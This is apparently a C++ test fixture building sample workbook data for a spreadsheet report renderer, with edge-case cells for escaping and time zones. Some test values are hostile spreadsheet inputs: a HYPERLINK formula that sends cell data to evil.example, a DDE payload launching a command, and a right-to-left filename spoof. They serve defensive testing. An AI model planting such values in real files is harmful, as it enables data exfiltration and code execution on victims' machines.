#include "render/workbook_sample.hpp"

#include <chrono>

namespace regie::test {

using namespace render;

namespace {

constexpr Instant at(std::chrono::sys_days day, int hour, int minute = 0) {
  return day + std::chrono::hours{hour} + std::chrono::minutes{minute};
}
constexpr std::chrono::sys_days march(unsigned day) {
  return std::chrono::year{2026} / std::chrono::March / std::chrono::day{day};
}

Cell text(std::string value) { return Cell{std::move(value)}; }
Cell number(std::int64_t value) { return Cell{value}; }
Cell alarm(Cell cell) { return {cell.value, Cell::Mood::alarm}; }

Section late() {
  Section section{.key = "late",
                  .title = "Late: who's at fault? [all] *March*",
                  .columns = {{"id", "Number", Column::Kind::number},
                              {"text", "Text", Column::Kind::wide},
                              {"opened_at", "Opened"},
                              {"due_at", "Due"},
                              {"late", "Late by", Column::Kind::number},
                              {"cost", "Cost", Column::Kind::number},
                              {"fragile", "Fragile"},
                              {"state", "State"},
                              {"hash", "Hash", Column::Kind::text, false}}};
  const auto row = [&](std::int64_t id, std::string words, Instant opened, Instant due, std::int64_t seconds,
                       std::int64_t cents, bool fragile) {
    section.rows.push_back({number(id), text(std::move(words)), Cell{Cell::Value{opened}},
                            alarm(Cell{Cell::Value{due}}), Cell{Cell::Value{Length{seconds}}},
                            Cell{Cell::Value{Money{cents}}}, Cell{fragile},
                            Cell{Cell::Value{Coded{"assigned", "Assigned"}}}, text("9007199254740993")});
  };
  const Instant before = at(march(28), 22, 30), after = at(march(29), 1, 30);  // the clock is moved at 01:00 UTC
  row(7, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", before, after, 5400, 12'345, true);
  row(8, "+33 6 12 34 56 78", before, after, 90'000, -50, false);
  row(9, "-1+1", before, after, 300 * 3600, 123'456'789, false);
  row(10, "@SUM(A1:A9)", before, after, 0, 0, false);
  row(11, "two\nlines\r\nand a bell \x07, a nought \x1b[31m red\ttab", before, after, 60, 1, false);
  row(12, "<b>&amp;\"'</b> ]]> \u202egpj.exe", before, after, 60, 1, false);
  row(13, "no character \xef\xbf\xbf\xef\xbf\xbe, no byte \xff, escaped _x0041_ and _X0041_", before, after, 60, 1,
      false);
  row(14, std::string(40'000, 'x'), before, after, 60, 1, false);
  row(15, "😀" + std::string(6'000, 'y') + "_x0041_", before, after, 60, 1, false);
  section.rows.push_back({number(1'000'000'000'000'000), {}, {}, {}, {}, {}, {}, {}, {}});
  section.total = Row{
      text("10"), {}, {}, {}, Cell{Cell::Value{Length{400 * 3600}}}, Cell{Cell::Value{Money{123'469'087}}}, {}, {}, {}};
  section.remarks = {
      "=1+1 is a remark that must stay a text.",
      "A long remark that goes on and on, so that it needs more than one line below the table, whatever the "
      "columns above it are wide, and does not disappear behind the edge of a single cell."};
  section.charts = {{.kind = Chart::Kind::stacked,
                     .title = "Late & not late, \"by trade\"",
                     .labels = {"plumbing", "=cmd|' /C calc'!A0", "locksmith"},
                     .series = {{"late", {3, 1, 0}, Cell::Mood::alarm}, {"in time", {10, 5, 4}, Cell::Mood::good}}}};
  return section;
}

Section kept() {
  Section section{.key = "kept",
                  .title = "Our word",
                  .columns = {{"month", "Month"},
                              {"requests", "Requests", Column::Kind::number},
                              {"kept", "Kept", Column::Kind::number}},
                  .bar = 2};
  const std::pair<const char*, Share> months[]{{"January", {180, 200}}, {"February", {150, 200}}, {"March", {0, 0}}};
  for (const auto& [name, share] : months)
    section.rows.push_back({text(name), number(share.whole), Cell{Cell::Value{share}}});
  section.charts = {{.kind = Chart::Kind::lines,
                     .unit = Chart::Unit::percent,
                     .title = "Kept",
                     .labels = {"January", "February", "March"},
                     .series = {{"NORD", {90, 75, std::nullopt}}, {"SUD", {80, 85, 100}}}},
                    {.kind = Chart::Kind::bars,
                     .unit = Chart::Unit::hours,
                     .title = "Time to the first visit",
                     .labels = {"January", "February", "March"},
                     .series = {{"", {26.5, 30, 12.25}}}}};
  return section;
}

Section margins() {
  Section section{.key = "margin",
                  .title = "LATE- WHO’S AT FAULT- -ALL- -march-",  // but for its case the name of the first sheet
                  .columns = {{"provider", "Provider"}, {"margin", "Margin", Column::Kind::number}}};
  section.rows = {{text("GAR"), Cell{Cell::Value{Length{-5400}}}}, {text("PLB"), Cell{Cell::Value{Length{9000}}}}};
  return section;
}

}  // namespace

Style workbook_style() {
  Style style;
  style.zone =
      Zone("Europe/Paris", [](Instant instant) { return std::chrono::hours{instant < at(march(29), 1) ? 1 : 2}; });
  style.now = at(march(31), 28);
  return style;
}

Report workbook_report() {
  Report report{.name = "sample",
                .title = "=A sample & \"its\" <title>",
                .landlord = "Val d’Orle Habitat",
                .period = "1 to 31 March 2026",
                .filter = "trade plumbing, agency NORD",
                .made_at = at(march(31), 28),
                .as_of = at(march(31), 28)};
  report.headlines = {{"late", alarm(number(12)), "late"},
                      {"kept", {Cell::Value{Share{9, 10}}, Cell::Mood::good}, "of what we promised was kept"},
                      {"oldest", Cell{Cell::Value{at(march(1), 8)}}, "=waits longest"}};
  report.sections = {late(), kept(), margins()};
  report.sections.push_back(
      {.key = "nothing", .title = "Nothing", .columns = {{"id", "Number"}}, .if_empty = "Nobody waits for a word."});
  report.remarks = {"Requests of tenants who moved out are not counted."};
  return report;
}

Report long_report(std::int64_t rows) {
  Report report{.name = "long", .title = "Long", .as_of = at(march(31), 28)};
  Section section{.key = "rows", .title = "Rows", .columns = {{"id", "Number"}, {"text", "Text"}}};
  for (std::int64_t i = 0; i < rows; ++i)
    section.rows.push_back({number(i), text(std::to_string(i) + std::string(1000, 'x'))});
  report.sections = {section};
  return report;
}

}  // namespace regie::test
